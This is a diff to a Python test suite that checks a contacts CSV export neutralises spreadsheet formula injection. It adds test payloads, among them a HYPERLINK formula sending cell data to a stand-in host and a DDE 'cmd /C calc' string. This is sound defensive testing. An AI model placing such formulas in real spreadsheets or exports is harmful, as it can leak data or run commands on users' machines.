@@ -304,9 +304,41 @@ def test_export_streams_every_contact_with_attributes(org):
     rows = list(csv.reader(io.StringIO("".join(contacts.contacts_export_lines(organization=org)))))
     assert rows[0] == contacts.EXPORT_COLUMNS + ["plan"]
     assert (
-        rows[1][1:7] == ["Ada", "", "+14155550100", "", "vip", "granted"] and rows[1][-1] == "pro"
+        rows[1][1:7] == ["Ada", "", "'+14155550100", "", "vip", "granted"] and rows[1][-1] == "pro"
     )
     assert rows[2][2] == "grace@example.com" and len(rows) == 3
+
+
+@pytest.mark.parametrize(
+    "evil",
+    [
+        '=HYPERLINK("http://x.example/?"&A1)',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\tTAB",
+        "\r=1",
+    ],
+)
+def test_export_neutralises_formula_cells(org, evil):
+    contacts.contact_create(
+        organization=org, name=evil, email="a@example.com", attributes={"note": evil}
+    )
+    text = "".join(contacts.contacts_export_lines(organization=org))
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1][-1] == "'" + evil  # attributes are kept as given
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])
+
+
+def test_exported_contacts_import_back_unchanged(org, other_org):
+    contacts.contact_create(
+        organization=org, name="=1+1", phone="+14155550100", attributes={"score": "-3"}
+    )
+    text = "".join(contacts.contacts_export_lines(organization=org))
+    import_id = contacts.contacts_import_store(organization=other_org, upload=_upload(text))
+    contacts.contacts_import_commit(organization=other_org, import_id=import_id)
+    copy = Contact.objects.get(organization=other_org)
+    assert (copy.name, copy.phone, copy.attributes["score"]) == ("=1+1", "+14155550100", "-3")
 
 
 def test_export_of_one_list(org):
